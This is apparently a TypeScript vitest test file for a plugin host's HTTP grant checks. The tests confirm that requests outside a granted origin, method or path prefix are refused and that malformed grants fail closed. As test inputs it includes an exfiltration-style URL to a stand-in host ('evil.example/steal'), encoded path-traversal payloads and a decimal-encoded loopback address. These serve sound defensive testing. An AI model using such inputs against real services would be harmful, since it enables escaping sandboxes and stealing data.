// A plugin's grants as http.request applies them (host-api/http/grants.ts, end to end): a request
// outside its granted origin, methods or path prefix is refused by name before anything is sent,
// and a malformed grant fails the call closed. grants.test.ts checks the same rules without a
// network.

import { describe, expect, it } from 'vitest';
import { normaliseGrant } from '../../../host-api/http.ts';
import { CapabilityError } from '../../../host-api/capability.ts';
import { call, ctxFor, lookups, makeCap, open, provider, refusal, useLoopbackProviders } from './http-fixture.ts';

useLoopbackProviders();

describe('requests outside the grant (each named by the attack)', () => {
  const grants = () => [open(provider.origin)];

  it('ungranted origin: the message names the origin and how to grant it', async () => {
    const ctx = ctxFor();
    const e = await refusal(makeCap(grants), { url: 'https://evil.example/steal?k=1' }, ctx);
    expect(e.rule).toBe('http.grant');
    expect(e.message).toBe(
      "http.request refused: https://evil.example:443 is not granted to plugin 'acme'. An administrator can grant it in the admin page (Plugins → acme → Network) or with --grant https://evil.example for `payout-sandbox call`.",
    );
    expect(lookups).toEqual([]);
    expect(ctx.counters.outboundRequests).toBe(0);
  });

  it('a method outside the grant', async () => {
    const cap = makeCap([open(provider.origin, { methods: ['GET'] })]);
    const before = provider.seen.length;
    const e = await refusal(cap, { method: 'POST', url: `${provider.origin}/echo`, body: '{}' });
    expect(e.rule).toBe('http.grant.method');
    expect(e.message).toContain('POST is not granted for');
    expect(e.message).toContain('(granted: GET)');
    expect(provider.seen.length).toBe(before);
  });

  it.each([
    ['a path outside the prefix', '/json'],
    ['a sibling that shares the prefix text', '/v10/ok'],
    ['dot-segment traversal out of the prefix', '/v1/../json'],
    ['encoded-slash traversal out of the prefix', '/v1/..%2fjson'],
    ['encoded-dot traversal out of the prefix', '/v1/%2e%2e/json'],
    ['encoded backslash traversal', '/v1/..%5cjson'],
  ])('a path outside the grant: %s', async (_name, path) => {
    const cap = makeCap([open(provider.origin, { pathPrefix: '/v1' })]);
    const e = await refusal(cap, { url: `${provider.origin}${path}` });
    expect(e.rule).toBe('http.grant.path');
  });

  it('a path inside the grant passes', async () => {
    const cap = makeCap([open(provider.origin, { pathPrefix: '/v1' })]);
    expect((await call(cap, { url: `${provider.origin}/v1/ok` })).status).toBe(200);
  });
});

describe('grants as the store hands them', () => {
  it('normaliseGrant accepts origins with or without the default port and rejects malformed grants', () => {
    expect(normaliseGrant({ origin: 'https://API.Provider.example', pathPrefix: '/v1/', methods: ['get', 'POST'] })).toEqual({
      origin: 'https://api.provider.example:443',
      pathPrefix: '/v1/',
      methods: ['GET', 'POST'],
    });
    expect(() => normaliseGrant({ origin: 'https://a.example/v1', pathPrefix: null, methods: null })).toThrow(/pathPrefix/);
    expect(() => normaliseGrant({ origin: 'https://a.example', pathPrefix: 'v1', methods: null })).toThrow(/plain absolute path/);
    expect(() => normaliseGrant({ origin: 'https://a.example', pathPrefix: '/v1/../admin', methods: null })).toThrow(/plain absolute path/);
    expect(() => normaliseGrant({ origin: 'https://a.example', pathPrefix: null, methods: ['TRACE'] })).toThrow(/TRACE/);
    expect(() => normaliseGrant({ origin: 'http://2130706433', pathPrefix: null, methods: null })).toThrow(/non-canonical/);
  });

  it('an invalid grant from the store fails the call closed with a clear error', async () => {
    const bad = makeCap([{ origin: 'https://a.example/path', pathPrefix: null, methods: null }]);
    const e = await call(bad, { url: 'https://a.example/path' }).catch((x) => x);
    expect(e).toBeInstanceOf(CapabilityError);
    expect(e.code).toBe('grants');
  });
});
